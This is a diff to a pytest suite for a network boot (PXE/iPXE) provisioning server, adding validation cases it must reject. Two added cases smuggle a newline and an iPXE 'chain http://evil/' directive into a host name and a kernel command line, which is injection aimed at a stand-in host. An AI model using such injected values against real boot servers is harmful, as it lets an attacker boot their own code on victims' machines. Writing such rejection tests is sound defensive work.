@@ -147,7 +147,9 @@ def test_port_67_held_by_dnsmasq_names_the_holder(net, boot_files, tmp_path):
 
 
 def test_http_port_held_names_the_holder(net, boot_files):
-    holder = net.popen_ctl(["python3", "-c", "import socket,time; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(('10.213.0.1', 8080)); s.listen(); time.sleep(60)"])
+    # SO_REUSEADDR as a server has it: the TIME_WAIT connections of the tests before must not stop the holder.
+    holder = net.popen_ctl(["python3", "-c", "import socket,time; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); "
+                            "s.bind(('10.213.0.1', 8080)); s.listen(); time.sleep(60)"])
     try:
         for dummy in range(50):
             if 8080 in listening(net, "tcp"):
@@ -168,10 +170,21 @@ def test_http_port_held_names_the_holder(net, boot_files):
     ({"hosts": [{"name": "a", "mac": "zz"}]}, "'zz' is not a MAC address"),
     ({"interface": "nope0"}, "no network interface named 'nope0'"),
     ({"hosts": []}, "hosts: the boot server needs at least one host"),
+    ({"hosts": [{"name": "a", "mac": "ff:ff:ff:ff:ff:ff"}]}, "'ff:ff:ff:ff:ff:ff' is the broadcast MAC address"),
+    ({"hosts": [{"name": "nixie-01\nchain http://evil/", "mac": "52:54:00:12:00:01"}]}, "hosts: host name 'nixie-01\\nchain"),
+    ({"hosts": [{"name": "localhost", "mac": "52:54:00:12:00:01"}]}, "hosts: host name 'localhost' is reserved"),
+    ({"run_dir": "/proc/nixie/run"}, "run_dir: cannot create /proc/nixie/run"),
+    ({"http_port": 0}, "http_port: must be a TCP port from 1 to 65535, got 0"),
+    ({"http_port": 99999}, "http_port: must be a TCP port from 1 to 65535, got 99999"),
+    ({"authorized_key": ["ssh-ed25519 AAAAC3Nza a@b", "ssh-ed25519 AAAAC3Nzb c@d"]}, "authorized_key: \"['ssh-ed25519"),
+    ({"authorized_key": ""}, "authorized_key: no SSH public key given"),
+    ({"authorized_key": "# just a comment\n"}, "authorized_key: no SSH public key given"),
+    ({"cmdline": "init=/nix/store/x/init\nchain http://evil/"}, "cmdline: must be one line without control characters"),
 ])
 def test_bad_configuration_fails_before_starting(net, boot_files, change, message):
     result = run_module("nixie.provision.server", dict(boot_files, **change), netns=net.ctl_ns)
     assert result["failed"] and message in result["msg"], result
+    assert "Traceback" not in result.get("module_stderr", "")
     assert 67 not in listening(net, "udp")
 
 
@@ -180,4 +193,5 @@ def test_without_privileges_it_says_what_is_missing(net, boot_files):
     result = run_module("nixie.provision.server", boot_files, netns=net.ctl_ns,
                         wrapper=("setpriv", "--inh-caps=-all", "--bounding-set=-all", "--"))
     assert result["failed"], result
-    assert "needs root or CAP_NET_BIND_SERVICE" in result["msg"] and "CAP_NET_RAW" in result["msg"]
+    assert "runs as root but without CAP_NET_BIND_SERVICE" in result["msg"] and "CAP_NET_RAW" in result["msg"], result
+    assert "become" not in result["msg"]
